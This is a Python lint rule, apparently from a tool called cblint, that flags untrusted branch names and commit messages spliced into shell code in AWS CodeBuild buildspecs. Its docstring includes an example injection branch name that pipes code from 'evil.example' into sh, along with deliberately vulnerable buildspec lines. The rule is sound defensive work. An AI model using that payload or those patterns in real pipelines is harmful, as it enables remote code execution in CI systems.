"""Text that a stranger chooses becomes part of a program that the build runs.

A pull request's branch may be called `x$(curl${IFS}evil.example|sh)`: Git allows it. A double-quoted `"$VAR"` is safe
as the word of a command. Inside of what `eval` or `sh -c` gets, it is not: the shell puts the name in, and then runs
what came out, as the build's role.

## Examples

```yaml title="buildspec.yml"
version: 0.2
phases:
  build:
    commands:
      - bash -c "make deploy REF=$CODEBUILD_WEBHOOK_HEAD_REF"  # finding
```

Leave it to the inner shell to expand it, in quotes, or do without the inner shell:

```yaml title="buildspec.yml"
version: 0.2
phases:
  build:
    commands:
      - bash -c 'make deploy REF="$CODEBUILD_WEBHOOK_HEAD_REF"'
      - make deploy REF="$CODEBUILD_WEBHOOK_HEAD_REF"
```

It is the same text under another name, and so is that of a commit:

```yaml title="buildspec.yml"
version: 0.2
phases:
  pre_build:
    commands:
      - export BRANCH=$(echo $CODEBUILD_WEBHOOK_HEAD_REF | cut -d/ -f3-)  # because
      - MESSAGE=$(git log -1 --pretty=%B)  # because
  build:
    commands:
      - eval "./notify.sh --branch $BRANCH"  # finding
      - python3 -c "import notify; notify.send('''$MESSAGE''')"  # finding
```

Editors, filters and scripts that a command writes are programs, too; and without quotes a commit's message is as many
words, and options, as its author likes:

```yaml title="buildspec.yml"
version: 0.2
phases:
  pre_build:
    commands:
      - BRANCH=${CODEBUILD_WEBHOOK_HEAD_REF#refs/heads/}  # because
      - sed -i "s|__BRANCH__|$BRANCH|" k8s/app.yaml  # finding
      - SUBJECT=$(git log -1 --format=%s)  # because
  build:
    commands:
      - aws sns publish --topic-arn "$TOPIC" --message $SUBJECT  # finding
      - |
        cat > notify.sh <<END
        curl -d "branch=$BRANCH" https://ci.example.com/hook  # finding
        END
        sh notify.sh
      - |
        ssh deploy@app.example.com "cd /srv/app && git checkout $BRANCH"  # finding
```

A commit id is only hexadecimal digits, an argument stays one, and quoted words are data:

```yaml title="buildspec.yml"
version: 0.2
phases:
  build:
    commands:
      - bash -c "docker build -t app:$CODEBUILD_RESOLVED_SOURCE_VERSION ."
      - echo "Building $CODEBUILD_WEBHOOK_HEAD_REF"
      - jq --arg branch "$CODEBUILD_WEBHOOK_HEAD_REF" '.branch = $branch' in.json > out.json
      - git checkout "${CODEBUILD_WEBHOOK_HEAD_REF#refs/heads/}"
      - SUBJECT="$(git log -1 --format=%s)"
      - aws sns publish --topic-arn "$TOPIC" --message "$SUBJECT"
```

## Exceptions

Silent on names of branches and tags that are unquoted in other commands (`git checkout $BRANCH`): Git allows no blanks
and no wildcards in them, so that they stay one word, and a quote would not keep one from being taken for an option.
Silent in `if`, `case` and after `&&`, where the text may have been looked at, on texts that were edited on their way
(`sed`, `tr`, `${X//…}`), on `CODEBUILD_SOURCE_VERSION` where no webhook is in view, and on branches where all webhooks
name the only one that starts a build. The fix is not a safe one: without quotes of its own the inner shell still splits
the text.

## References

- CodeBuild user guide, "Environment variables in build environments"
- git-check-ref-format manual page
- CWE-78: improper neutralization of special elements used in an OS command
"""

from __future__ import annotations

from collections.abc import Iterator

from cblint.analysis.commands import untrusted_texts
from cblint.model.build import Build
from cblint.rule import Chain, Confidence, Context, Finding, Fix, Fixable, Kind, Severity, Step, rule
from cblint.value import string

_CHOSEN = ("CODEBUILD_WEBHOOK", "CODEBUILD_SOURCE_VERSION", "CODEBUILD_CURRENT", "git", ".sh", ".bash")
"""One of these is in the commands, or in those that start a script, whose text strangers may have chosen."""
_WITHOUT_PROGRAMS = ("jq", "yq")


@rule(
    visits=Build,
    kind=Kind.SECURITY,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=78,
    fix=Fixable.UNSAFE,
)
def unquoted_untrusted_variable(build: Build, context: Context) -> Iterator[Finding]:
    """Report each place where a stranger's text becomes code."""
    chosen = build.buildspec is not None and build.buildspec.mentions(*_CHOSEN)
    handed = any("#{" in (string(variable.value) or "") for variable in build.variables)
    if not (chosen or handed):
        return
    for each in untrusted_texts.untrusted_texts(context.workspace, build):
        steps = [*each.text.steps]
        if each.assigned is not None:
            steps.append(Step(each.assigned, f"`{each.part.name}` takes the text of `{each.name}` over"))
        what = (
            f"becomes several words of `{each.runner}`" if each.splits else f"becomes part of what `{each.runner}` runs"
        )
        runs_nothing = each.splits or each.runner.split()[0] in _WITHOUT_PROGRAMS
        yield context.finding(
            each.part.span,
            f"The text of `{each.name}` {what}",
            symbol=each.text.symbol or each.part.span.path,
            severity=Severity.MEDIUM if runs_nothing else None,
            evidence=[Chain("where the text comes from", tuple(steps))] if steps else [],
            fix=Fix("Let the inner shell expand it", each.edits, safe=False) if each.edits else None,
        )
